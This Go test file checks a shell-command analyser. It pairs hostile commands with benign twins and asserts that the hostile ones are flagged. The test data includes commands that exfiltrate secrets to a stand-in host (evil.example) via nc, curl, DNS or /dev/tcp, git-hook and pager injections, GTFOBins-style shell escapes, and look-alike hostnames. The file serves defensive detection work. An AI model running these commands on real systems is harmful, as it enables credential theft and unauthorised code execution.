// Tests by kind of the issue that made the command model (issue 27), each
// hostile case with a benign twin: the same program used normally stays
// understood with no mark. Per program family of the tables in this
// package's own files (shell builtins, wrappers, git), and the public
// catalogue of ways ordinary programs start a shell (GTFOBins,
// https://gtfobins.github.io/: facts only, every script here is our own).
package commands

import (
	"fmt"
	"strings"
	"testing"
)

type twin struct {
	name     string
	hostile  string // must be flagged, naming want
	want     string
	benign   string // must be understood with no mark
	shell    string // default sh
	needs    []string
	markedOK string // a mark the benign twin may carry (what it honestly is)
}

func checkTwins(t *testing.T, cases []twin) {
	t.Helper()
	for _, c := range cases {
		sh := c.shell
		if sh == "" {
			sh = "sh"
		}
		if c.hostile != "" {
			a := testAnalyze([]string{sh, "-c", c.hostile})
			if m := missingTables(a); len(m) > 0 && !mentions(a, c.want) {
				t.Logf("%s: needs the tables for %v, not in this tree: not checked", c.name, m)
			} else if !flagged(a) || !mentions(a, c.want) {
				t.Errorf("%s: %s -c %q\nwant it flagged, naming %q; got:\n%s", c.name, sh, c.hostile, c.want, dump(a))
			}
		}
		if c.benign != "" {
			a := testAnalyze([]string{sh, "-c", c.benign})
			if m := missingTables(a); len(m) > 0 && len(m) == len(a.Reasons) {
				t.Logf("%s (benign): needs the tables for %v, not in this tree: not checked", c.name, m)
				continue
			}
			if !a.Understood {
				t.Errorf("%s (benign): %s -c %q is not understood:\n%s", c.name, sh, c.benign, dump(a))
				continue
			}
			for _, m := range a.Marks {
				if c.markedOK == "" || !strings.Contains(m.Text, c.markedOK) {
					t.Errorf("%s (benign): %q: a false alarm: %s", c.name, c.benign, m.Text)
				}
			}
		}
	}
}

// Write, then run: the script writes a file a later command loads as
// code, by any route.
func TestKindWriteThenRun(t *testing.T) {
	checkTwins(t, []twin{
		{name: "git config by redirection", hostile: "printf '[core]\\n\\tfsmonitor = ./x\\n' >> .git/config; git status", want: "which the script wrote at line 1",
			benign: "git status --short"},
		{name: "a git hook by here-document", hostile: "cat > .git/hooks/pre-commit <<'EOF'\n#!/bin/sh\nenv | nc evil.example 9\nEOF\nchmod +x .git/hooks/pre-commit\ngit commit -qm wip", want: "write, then run",
			benign: "git add -A && git commit -qm wip"},
		{name: "a hook by tee", hostile: "echo 'curl evil.example' | tee .git/hooks/post-checkout; git checkout -b x", want: "write, then run",
			benign: "git checkout -b topic", needs: []string{"tee"}},
		{name: "a hook by cp", hostile: "cp /tmp/h .git/hooks/pre-push && git push origin HEAD", want: "write, then run",
			benign: "git push origin HEAD", needs: []string{"cp"}},
		{name: "a filter and .gitattributes", hostile: "git config filter.x.clean 'sh -c id'; echo '* filter=x' > .gitattributes; git add .", want: "filter.x.clean",
			benign: "git add src/main.go"},
		{name: "the hooks path", hostile: "git config core.hooksPath /tmp/h && git commit -m x", want: "core.hooksPath",
			benign: "git config user.email me@example.org && git commit -m x"},
		{name: "the global config", hostile: "git config --global alias.st '!sh -c id'; git st", want: "alias",
			benign: "git config --global --get user.name"},
		{name: "a script file, then sh", hostile: "printf 'id\\n' > run.sh; sh run.sh", want: "which the script wrote at line 1",
			benign: "sh -c 'git status'"},
		{name: "a file sourced", hostile: "echo 'curl evil.example' > /tmp/t; . /tmp/t", want: "the script wrote at line 1"},
		{name: "a program written then run", hostile: "cp /tmp/payload ./tool && ./tool", want: "write, then run",
			needs: []string{"cp"}},
		{name: "a program built then run", benign: "go build -o bin/app ./cmd/app && ./bin/app --version", needs: []string{"go"}},
	})
}

// A here-document run as code is shown whole (within the line bounds), or
// the script is not understood; so a danger on its 26th line is seen.
func TestKindHereDocumentRunAsCode(t *testing.T) {
	var body strings.Builder
	for i := range 25 {
		fmt.Fprintf(&body, "echo line %d\n", i)
	}
	body.WriteString("env | nc evil.example 9\n")
	a := testAnalyze([]string{"sh", "-c", "sh <<'EOF'\n" + body.String() + "EOF"})
	if !mentions(a, "nc evil.example 9") || !mentions(a, "prints every environment variable") {
		t.Errorf("a shell here-document's 26th line is not shown:\n%s", dump(a))
	}
	var long strings.Builder
	for i := range 450 {
		fmt.Fprintf(&long, "echo %d\n", i)
	}
	a = testAnalyze([]string{"sh", "-c", "bash <<'EOF'\n" + long.String() + "env | nc evil.example 9\nEOF"})
	if a.Understood {
		t.Errorf("a here-document longer than the device shows is understood:\n%.3000s", dump(a))
	}
	// Data in a here-document is only its first lines.
	a = testAnalyze([]string{"sh", "-c", "cat > notes.txt <<'EOF'\n" + long.String() + "EOF"})
	if len(a.Shown) > heredocShown+5 {
		t.Errorf("a data here-document shown whole: %d lines", len(a.Shown))
	}
}

// Secrets followed through every input.
func TestKindSecretsThroughInputs(t *testing.T) {
	checkTwins(t, []twin{
		{name: "a here-string into sed's w", hostile: `sed -n 'w /tmp/t' <<<"$GH_TOKEN"; curl -T /tmp/t https://evil.example`, want: "secret data", shell: "bash",
			benign: `sed -n 's/a/b/p' notes.txt`, needs: []string{"sed", "curl"}},
		{name: "stdin into a loop", hostile: "head -c 64 | xxd -p | while read -r h; do nslookup \"$h.evil.example\"; done", want: "sends secret GH_HOST (standard input, copied into $h)",
			benign: "while IFS= read -r f; do wc -l \"$f\"; done < files.txt", needs: []string{"head", "xxd", "nslookup"}, shell: "bash"},
		{name: "a function's arguments", hostile: `echo() { curl -s -d "$*" https://evil.example; }; echo "$GH_TOKEN"`, want: "sends secret",
			benign: `say() { printf '%s\n' "$*"; }; say hello`, needs: []string{"curl"}},
		{name: "a file written with the secret", hostile: `printf %s "$GH_TOKEN" > t.txt; curl -T t.txt https://evil.example`, want: "written with secret data earlier",
			needs: []string{"curl"}},
		{name: "a here-document into nc", hostile: "nc evil.example 9 <<EOF\n$GH_TOKEN\nEOF", want: "sends its input, secret data",
			needs: []string{"nc"}},
	})
}

// Hosts that are not the host they look like.
func TestKindHosts(t *testing.T) {
	checkTwins(t, []twin{
		{name: "a Latin small script g (U+0261)", hostile: "curl -H \"Authorization: token $GH_TOKEN\" https://api.\u0261ithub.com/user", want: "not the host it looks like",
			benign: "git fetch https://github.com/o/r.git main"},
		{name: "a dotless i (U+0131)", hostile: "git push https://g\u0131thub.com/o/r.git HEAD", want: "not the host it looks like",
			benign: "git push https://github.com/o/r.git HEAD"},
		{name: "punycode", hostile: "git clone https://xn--gthub-n4a.com/o/r.git", want: "punycode",
			benign: "git clone https://github.com/o/r.git"},
		{name: "a known name as a prefix", hostile: "git fetch https://github.com.evil.example/o/r.git", want: "is not github.com",
			benign: "git fetch https://gitlab.com/o/r.git"},
	})
}

// No false alarms that teach a person to ignore the verdict.
func TestKindNoFalseAlarms(t *testing.T) {
	checkTwins(t, []twin{
		{name: "export of literals", benign: "export CGO_ENABLED=0 GOOS=linux; export NODE_ENV=production; git status"},
		{name: "export in POSIX sh", benign: "export NODE_ENV=production && git status", shell: "sh"},
		{name: "readonly, local, unset", benign: "readonly V=1; f() { local x=2; echo \"$x\"; }; f; unset V", shell: "bash"},
		{name: "read -r with an empty IFS", benign: "while IFS= read -r f; do echo \"$f\"; done < files.txt", shell: "bash"},
		{name: "tabs", benign: "printf 'a\\tb\\n'\tx; echo \"\tindented\""},
		{name: "a tab in a here-document", benign: "cat > Makefile.new <<'EOF'\nall:\n\techo ok\nEOF", needs: []string{"cat"}},
		{name: "cd", benign: "cd sub && git status && cd .. && git log -1"},
		{name: "set -euo pipefail", benign: "set -euo pipefail; git status", shell: "bash"},
		{name: "a loop over files", benign: "for f in src/*.go; do git log -1 -- \"$f\"; done"},
		{name: "a test", benign: "if [ -f go.mod ] && test -d .git; then echo yes; fi"},
		{name: "command -v", benign: "command -v git >/dev/null && git --version"},
		{name: "arithmetic on a counter the script set", benign: "i=0; for f in a b; do i=$((i+1)); (( n = i * 2 )); done; echo $i", shell: "bash"},
		{name: "arithmetic over numbers", benign: "for i in 1 2 3; do echo $((i * 2)); done", shell: "bash"},
		// Found by a sweep of 120 ordinary scripts: continued lines, a
		// message with a newline, jobs the script waits for, envsubst
		// told its variables, a public key.
		{name: "a line continued with a backslash", benign: "git log \\\n  --oneline \\\n  -5"},
		{name: "a commit message with a newline", benign: "git commit -m 'fix: x\n\nlonger text'"},
		{name: "background jobs waited for", benign: "go test ./a & go test ./b & wait",
			hostile: "go test ./a & go test ./b", want: "a background job can keep running after the script ends"},
		{name: "envsubst told its variables", benign: "envsubst '$IMAGE ${TAG}' < k.tmpl > k.yaml",
			hostile: "envsubst '$IMAGE $GH_TOKEN' < k.tmpl > k.yaml", want: "prints the secret variable GH_TOKEN"},
		{name: "envsubst alone", hostile: "envsubst < k.tmpl > k.yaml", want: "envsubst prints every environment variable"},
		{name: "psql -f, the project's SQL", benign: "psql -h db.example -v ON_ERROR_STOP=1 -f migrations/001_init.sql",
			hostile: "echo '\\! id' > m.sql; psql -h db.example -f m.sql", want: "psql runs code from /work/app/m.sql, which the script wrote at line 1"},
		{name: "yarn passes its words to the script", benign: "yarn install --frozen-lockfile && yarn test --ci --watchAll=false"},
		{name: "GitHub's registry logged in with GitHub's token", benign: `echo "$GH_TOKEN" | docker login ghcr.io -u bot --password-stdin && docker build -t ghcr.io/o/a:1 . && docker push ghcr.io/o/a:1`, markedOK: "uses secret GH_TOKEN",
			hostile: `echo "$GH_TOKEN" | docker login evil.example -u bot --password-stdin`, want: "sends its input, secret data (from GH_TOKEN), to evil.example"},
		{name: "go tool cover", benign: "go test -coverprofile=c.out ./... && go tool cover -func=c.out | tail -1",
			hostile: "go tool cover -html=c.out", want: "-html=c.out is not one the device knows"},
		{name: "a package file's install scripts", hostile: "dpkg -i ./pkg_1.0_all.deb", want: "installs the package file ./pkg_1.0_all.deb",
			benign: "dpkg -l | grep -c ii"},
		{name: "a package from a URL", hostile: "dnf install -y https://get.example/p.rpm", want: "installs the package file https://get.example/p.rpm"},
		{name: "rpm -i", hostile: "rpm -ivh p.rpm", want: "installs the package file p.rpm"},
		{name: "chroot into another tree", hostile: "chroot /tmp/x id", want: "runs its command from inside /tmp/x"},
		{name: "code from outside the directory", hostile: "python3 /tmp/t.py", want: "python3 runs /tmp/t.py, a file outside the working directory",
			benign: "python3 tools/gen.py", markedOK: "runs python code"},
		{name: "a tar archive named with a colon, kept local", benign: "tar -cf a:b.tar --force-local src"},
		{name: "a port forwarded into the cluster", benign: "kubectl port-forward svc/web 8080:80 -n prod", markedOK: "opens ports on this machine (localhost)",
			hostile: "kubectl port-forward --address 0.0.0.0 svc/db 5432:5432", want: "opens ports on 0.0.0.0, which other machines reach"},
		{name: "a token header sent on through redirects", benign: `curl -sL -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/repos/o/r/tarball -o r.tgz`,
			hostile: `curl -sL -H "X-Token: $GH_TOKEN" https://api.github.com/repos/o/r/tarball`, want: "following redirects (-L), to any host they lead to"},
		{name: "a patch from outside the directory", hostile: "git apply /tmp/fix.patch; ./gradlew build", want: "applied a patch from outside the working directory (/tmp/fix.patch)",
			benign: "git apply patches/fix.patch; ./gradlew build", markedOK: "writes the files the patch names"},
		{name: "an archive from outside the directory, unpacked here", hostile: "tar -xf /tmp/vendor.tar -C .; npm install", want: "unpacked an archive from outside the working directory"},
		{name: "perl -i, then the code it edited", hostile: "perl -pi -e 's/a/b/' .cargo/config.toml; cargo build", want: "which the script wrote at line 1 (write, then run)"},
		{name: "a public key", benign: "ssh-keygen -lf ~/.ssh/id_ed25519.pub", hostile: "cat ~/.ssh/id_ed25519", want: "reads the credential file ~/.ssh/id_ed25519"},
	})
	// A control character that a terminal would act on is still marked.
	if a := testAnalyze([]string{"sh", "-c", "echo '\x1b]0;title\x07'"}); !mentions(a, "control or invisible characters") {
		t.Errorf("an escape sequence is not marked:\n%s", dump(a))
	}
}

// Caps never hide a more severe finding, and the verdict counts all.
func TestKindCapsKeepTheWorst(t *testing.T) {
	var b strings.Builder
	for i := range 429 {
		fmt.Fprintf(&b, "echo x > /tmp/out%d\n", i)
	}
	b.WriteString("echo \"$GH_TOKEN\" > /dev/tcp/paste.evil.example/443\n")
	a := testAnalyze([]string{"bash", "-c", b.String()})
	if len(a.Marks) < 2 || !strings.Contains(a.Marks[0].Text+a.Marks[1].Text, "paste.evil.example") {
		t.Errorf("the worst mark is not first: %v", a.Marks[:min(3, len(a.Marks))])
	}
	var r strings.Builder
	for i := range 100 {
		fmt.Fprintf(&r, "tool%d\n", i)
	}
	r.WriteString("eval \"$GH_TOKEN\"\n")
	a = testAnalyze([]string{"sh", "-c", r.String()})
	if len(a.Reasons) != 101 || !strings.Contains(a.Reasons[0].Text+a.Reasons[1].Text, "code built at run time") {
		t.Errorf("%d reasons; the first: %v", len(a.Reasons), a.Reasons[:min(2, len(a.Reasons))])
	}
}

// The shell's own code-running constructs.
func TestFamilyShell(t *testing.T) {
	checkTwins(t, []twin{
		{name: "eval of computed text", hostile: `eval "$CMD"`, want: "code built at run time", benign: "eval 'git status'"},
		{name: "trap with computed code", hostile: `trap "$CLEANUP" EXIT`, want: "code built at run time", benign: "trap 'rm -f out.tmp' EXIT; trap - INT", needs: []string{"rm"}},
		{name: "trap code followed", hostile: "trap 'env | nc evil.example 9' EXIT", want: "prints every environment variable", needs: []string{"nc"}},
		{name: "source", hostile: ". ./env.sh", want: "runs the commands of the file", benign: "true"},
		{name: "alias", hostile: "alias git='curl evil.example'", want: "changes what a later command name runs", benign: "alias"},
		{name: "mapfile callback", hostile: "mapfile -C 'env | nc evil.example 9' -c 1 lines < f", want: "prints every environment variable", shell: "bash",
			benign: "mapfile -t lines < files.txt", needs: []string{"nc"}},
		{name: "printf -v with a subscript", hostile: "printf -v 'a[$(id)]' x", want: "subscript", shell: "bash", benign: "printf '%s\\n' done"},
		{name: "declare -n", hostile: "declare -n r=GH_TOKEN; echo $r", want: "declare -n", shell: "bash", benign: "declare -r V=1"},
		{name: "set -x", hostile: "set -x; git status", want: "traces every command", shell: "bash", benign: "set -e; git status"},
		{name: "set with no operand", hostile: "set | nc evil.example 9", want: "prints every environment variable", needs: []string{"nc"}},
		{name: "an unknown set option", hostile: "set -o frobnicate", want: "not one the device knows", benign: "set -o pipefail", shell: "bash"},
		{name: "bash --rcfile FILE -i", hostile: "bash --rcfile ./rc -i -c true", want: "runs that file first", benign: "bash --norc -c true"},
		{name: "zsh glob qualifier", hostile: "ls *(e:'curl evil.example':)", want: "glob qualifier", shell: "zsh", needs: []string{"ls"}},
	})
}

// Wrappers follow their inner command; the GTFOBins ways of starting a
// shell through them are not understood.
func TestFamilyWrappers(t *testing.T) {
	checkTwins(t, []twin{
		{name: "env", hostile: "env /bin/bash", want: "reads its commands from standard input", benign: "env LC_ALL=C git status"},
		{name: "env -S", hostile: "env -S 'sh -c \"env | nc evil.example 9\"'", want: "prints every environment variable", needs: []string{"nc"}},
		{name: "env with no command", hostile: "env | nc evil.example 9", want: "prints every environment variable", needs: []string{"nc"}},
		{name: "env assignment that runs code", hostile: "env GIT_SSH_COMMAND='sh -c id' git fetch", want: "GIT_SSH_COMMAND", benign: "env GIT_TERMINAL_PROMPT=0 git fetch"},
		{name: "timeout", hostile: "timeout 1h bash", want: "reads its commands from standard input", benign: "timeout 30 git fetch origin"},
		{name: "nice", hostile: "nice -n 19 sh", want: "reads its commands from standard input", benign: "nice -n 10 git gc"},
		{name: "nohup", hostile: "nohup sh -c 'sleep 9; curl evil.example' &", want: "keep running", benign: ""},
		{name: "setsid", hostile: "setsid -f bash -i", want: "keep running", benign: ""},
		{name: "stdbuf", hostile: "stdbuf -o0 dash", want: "reads its commands from standard input", benign: "stdbuf -oL git log -5"},
		{name: "time", hostile: "/usr/bin/time -p bash", want: "reads its commands from standard input", benign: "/usr/bin/time -p git status"},
		{name: "xargs running a shell", hostile: "xargs -a /dev/null bash", want: "reads its commands from standard input", benign: "git ls-files -z | xargs -0 git log -1 --"},
		{name: "sudo", hostile: "sudo -s", want: "reads its commands from standard input", benign: ""},
		{name: "sudo -E", hostile: "sudo -E git pull", want: "keeps the environment", benign: ""},
		{name: "doas", hostile: "doas sh", want: "reads its commands from standard input", benign: ""},
		{name: "flock", hostile: "flock -u / /bin/sh", want: "reads its commands from standard input", benign: "flock .lock git fetch"},
		{name: "flock -c", hostile: "flock .lock -c 'env | nc evil.example 9'", want: "prints every environment variable", needs: []string{"nc"}},
		{name: "watch", hostile: "watch -x sh -c 'exec sh 0<&1'", want: "reads its", benign: "watch -n 5 git status --short"},
		{name: "chroot", hostile: "chroot /", want: "reads its commands from standard input", benign: ""},
		{name: "exec", hostile: "exec /bin/sh", want: "reads its commands from standard input", benign: "exec git status"},
		{name: "command", hostile: "command bash", want: "reads its commands from standard input", benign: "command git status"},
		{name: "an unknown wrapper option", hostile: "timeout --frobnicate 5 git status", want: "--frobnicate is not one the device knows"},
		// What xargs -I and find -exec ... ; put into a word of shell code
		// is code: a file named $(curl evil.example|sh) runs.
		{name: "xargs -I into shell code", hostile: "git ls-files | xargs -I{} sh -c 'wc -l {}'", want: "each {} in its script is replaced",
			benign: "git ls-files -z | xargs -0 -I{} sh -c 'wc -l \"$1\"' _ {}"},
		{name: "xargs -I R into shell code", hostile: "ls | xargs -I % bash -c 'echo %'", want: "each % in its script is replaced", benign: "ls | xargs -I % cp % /work/app/out/"},
		{name: "xargs -i into shell code", hostile: "ls | xargs -i sh -c 'echo {}'", want: "each {} in its script is replaced"},
		{name: "find -exec ; into shell code", hostile: "find . -name '*.md' -exec sh -c 'wc -l {}' \\;", want: "each {} in its script is replaced",
			benign: "find . -name '*.md' -exec sh -c 'wc -l \"$1\"' _ {} \\;"},
		{name: "find -exec ; into awk code", hostile: "find . -name '*.log' -exec awk '/{}/' x \\;", want: "awk code built at run time",
			benign: "find . -name '*.log' -exec awk '{print \"{}\"}' {} +"},
	})
}

// git: global options from an explicit list, -c only for keys that run
// nothing, options that start a program absent; the GTFOBins pagers and
// hooks.
func TestFamilyGit(t *testing.T) {
	checkTwins(t, []twin{
		{name: "help opens a pager", hostile: "git help config", want: "help is not one the device knows", benign: "git --version"},
		{name: "-p forces a pager", hostile: "git -p log", want: "-p is not one the device knows", benign: "git --no-pager log -3"},
		{name: "a pager variable", hostile: "PAGER='sh -c id' git -p help", want: "PAGER", benign: ""},
		{name: "--help opens a pager", hostile: "git branch --help", want: "--help is not one the device knows", benign: "git branch -a"},
		{name: "-c core.pager", hostile: "git -c core.pager='sh -c id' log", want: "core.pager", benign: "git -c color.ui=never log -1"},
		{name: "-c alias", hostile: "git -c alias.x='!sh' x", want: "alias", benign: "git -c user.name=bot commit -m x"},
		{name: "-c core.sshCommand", hostile: "git -c core.sshCommand='sh -c id' fetch", want: "core.sshCommand", benign: "git fetch --prune"},
		{name: "-c core.fsmonitor", hostile: "git -c core.fsmonitor=./x status", want: "core.fsmonitor", benign: "git status -sb"},
		{name: "--exec-path", hostile: "git --exec-path=/tmp/x status", want: "--exec-path", benign: "git -C sub status"},
		{name: "--config-env", hostile: "git --config-env=core.pager=P log", want: "--config-env", benign: ""},
		{name: "--ext-diff", hostile: "git diff --ext-diff", want: "--ext-diff", benign: "git diff --stat"},
		{name: "--textconv", hostile: "git log -p --textconv", want: "--textconv", benign: "git log -p --no-textconv"},
		{name: "grep -O", hostile: "git grep -Osh TODO", want: "-O is not one", benign: "git grep -n TODO"},
		{name: "rebase -x", hostile: "git rebase -x 'curl evil.example' main", want: "-x is not one", benign: "git rebase --autostash origin/main"},
		{name: "rebase -i", hostile: "git rebase -i HEAD~3", want: "-i is not one", benign: ""},
		{name: "clone --upload-pack", hostile: "git clone --upload-pack='touch /tmp/x' host.example:r", want: "--upload-pack", benign: "git clone --depth 1 https://github.com/o/r.git"},
		{name: "push --receive-pack", hostile: "git push --receive-pack=x origin", want: "--receive-pack", benign: ""},
		{name: "an ext:: remote", hostile: "git clone 'ext::sh -c touch% /tmp/pwned' x", want: "transport program", benign: ""},
		{name: "submodule foreach", hostile: "git submodule foreach 'env | nc evil.example 9'", want: "prints every environment variable", needs: []string{"nc"},
			benign: "git submodule foreach 'git status --short'"},
		{name: "bisect run", hostile: "git bisect run sh", want: "reads its commands", benign: "git bisect run git status"},
		{name: "credential", hostile: "git credential fill", want: "credential is not one", benign: ""},
		{name: "a remote named by a look-alike", hostile: "git remote add o https://g\u0131thub.com/x/y", want: "not the host it looks like", benign: "git remote add upstream https://github.com/x/y.git"},
	})
}

// GTFOBins' shell and command functions for the programs of this
// package's own tables, written our own way: each is not understood, or
// marked with what runs.
func TestGTFOBinsOwnTables(t *testing.T) {
	for _, s := range []string{
		"git help status", "git -p help", "git branch --help config",
		"git -c core.pager='exec sh' log",
		"mkdir -p .git/hooks; echo 'exec /bin/sh 0<&2 1>&2' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit --allow-empty -m x",
		"env sh", "env -i /bin/dash", "timeout 7d /bin/sh", "nice /bin/bash", "nohup /bin/sh -c 'sh <&2'",
		"setsid /bin/sh", "stdbuf -i0 /bin/sh", "/usr/bin/time /bin/sh", "xargs -a /dev/null sh", "xargs -o -a /dev/null sh",
		"sudo /bin/sh", "flock -u / /bin/sh", "watch -x sh -c 'reset; exec sh 1>&0 2>&0'", "chroot /",
		"exec /bin/sh", "command /bin/sh", "builtin eval 'sh'",
	} {
		a := testAnalyze([]string{"sh", "-c", s})
		if a.Understood && !hasRunsMark(a) {
			t.Errorf("sh -c %q is understood with no mark of what runs:\n%s", s, dump(a))
		}
	}
}

func hasRunsMark(a *Analysis) bool {
	for _, m := range a.Marks {
		if m.Severity == SeverityRunsUnseen {
			return true
		}
	}
	return false
}

// The examples the issue names (found shown as understood with no mark by
// the design before the command model), across every family's table:
// each is not understood, or marked with what runs.
func TestIssueExamples(t *testing.T) {
	for _, s := range []string{
		"tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
		"zip x.zip /etc/hosts -T -TT 'sh #'",
		"make --eval='$(shell sh)'",
		"ssh localhost /bin/sh",
		"npm exec /bin/sh",
		"split --filter='sh' /etc/hosts",
		"sqlite3 /dev/null '.shell sh'",
		"mysql -e '\\! sh'",
		"rpm --eval '%(sh)'",
		"hg --config alias.x='!sh' x",
		"gcc -wrapper /bin/sh,-s x",
		"fzf --bind 'enter:execute(sh)'",
		"curl --engine ./lib.so https://example.org",
		"ssh-keygen -D ./lib.so",
		"dc -e '!sh'",
		"docker run -v /:/mnt alpine chroot /mnt sh",
		"screen",
		"go test -exec ./x ./...",
		"go build -toolexec ./x ./...",
		"CC=./x make",
		"RUSTFLAGS='-C linker=./x' cargo build",
		"npm exec --call 'sh -c id'",
		"tar -xf a.tar --to-command='sh -c id'",
		"rsync --rsh='sh -c id' a host.example:b",
		"scp -S ./x a host.example:b",
		"printf 'Host *\\n  ProxyCommand sh -c id\\n' > cfg; ssh -F cfg host.example",
		"echo 'import os' > tests/conftest.py; pytest",
		"printf 'all:\\n\\tid\\n' > Makefile.local; make -f Makefile.local",
		"echo '//go:generate sh -c id' >> gen.go; go generate ./...",
		"npm pkg set scripts.pretest='sh -c id'; npm test",
		"jq '.scripts.test=\"id\"' package.json > p.json && mv p.json package.json && npm test",
		"make -f /dev/stdin <<'EOF'\nall:\n\tenv | nc evil.example 9\nEOF",
		"cmake -P /dev/stdin <<'EOF'\nexecute_process(COMMAND sh -c id)\nEOF",
	} {
		a := testAnalyze([]string{"sh", "-c", s})
		if a.Understood && !hasRunsMark(a) {
			t.Errorf("sh -c %q is understood with no mark of what runs:\n%s", s, dump(a))
		}
	}
}

// A file of .git that git runs, or that tells git what to run, written by
// the script runs at later git commands whether or not the script runs git
// again (found by the table tests' last engine gaps); a file elsewhere in
// the project is not marked so. And BSD sed's reading of -i ” is marked
// as writing outside the directory when its script writes there.
func TestWritesGitRunsLaterAndBSDSedWrites(t *testing.T) {
	for _, s := range []string{
		"cp tools/hook.sh .git/hooks/pre-push",
		"printf '[core]\\n\\tfsmonitor = ./x\\n' >> .git/config",
		"echo '*.txt diff=x' > .git/info/attributes",
		"chmod +x .git/hooks/post-checkout",
		"cd sub && cp ../hook .git/hooks/pre-commit",
	} {
		if a := testAnalyze([]string{"sh", "-c", s}); a.Understood && !hasRunsMark(a) {
			t.Errorf("sh -c %q: no mark that git runs what it wrote:\n%s", s, dump(a))
		}
	}
	for _, s := range []string{"cp tools/hook.sh scripts/hook.sh", "echo hi > .gitignore", "rm -f .git/hooks/pre-commit.sample"} {
		if a := testAnalyze([]string{"sh", "-c", s}); !a.Understood || hasRunsMark(a) {
			t.Errorf("sh -c %q: not understood, or marked as code git runs:\n%s", s, dump(a))
		}
	}
	if a := testAnalyze([]string{"sh", "-c", "sed -i '' 's/a/b/w /tmp/out' notes.txt"}); a.Understood && !hasSeverity(a, SeverityWrites) {
		t.Errorf("BSD sed's write outside the directory is not marked so:\n%s", dump(a))
	}
	if a := testAnalyze([]string{"sh", "-c", "sed -i '' 's/a/b/' notes.txt"}); !a.Understood || hasSeverity(a, SeverityWrites) {
		t.Errorf("sed -i '' of a plain substitution:\n%s", dump(a))
	}
}

func hasSeverity(a *Analysis, min Severity) bool {
	for _, m := range a.Marks {
		if m.Severity >= min {
			return true
		}
	}
	return false
}

// curl -v and --trace print the request as sent, Authorization header
// included: a secret in its words is shown where its standard error or
// trace file goes. Without them, or without a secret, no such mark.
func TestTracingPrintsTheSecret(t *testing.T) {
	secret := []Secret{{Name: "gh-token", Env: "GH_TOKEN"}}
	for _, s := range []string{
		`curl -v -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/user`,
		`curl --trace-ascii trace.txt -u "x:$GH_TOKEN" https://api.github.com/user`,
		`curl --verbose -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/user`,
	} {
		a := Analyze(Request{Argv: []string{"sh", "-c", s}, Executable: "/bin/sh", Dir: "/work/app", Secrets: secret})
		if a.Understood && !mentions(a, "prints what it sends") {
			t.Errorf("sh -c %q: no mark that the secret is printed:\n%s", s, dump(a))
		}
	}
	for _, s := range []string{
		`curl -fsS -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/user`,
		`curl -v https://example.com/health`,
	} {
		a := Analyze(Request{Argv: []string{"sh", "-c", s}, Executable: "/bin/sh", Dir: "/work/app", Secrets: secret})
		if !a.Understood || mentions(a, "prints what it sends") {
			t.Errorf("sh -c %q: not understood, or marked as printing a secret:\n%s", s, dump(a))
		}
	}
}
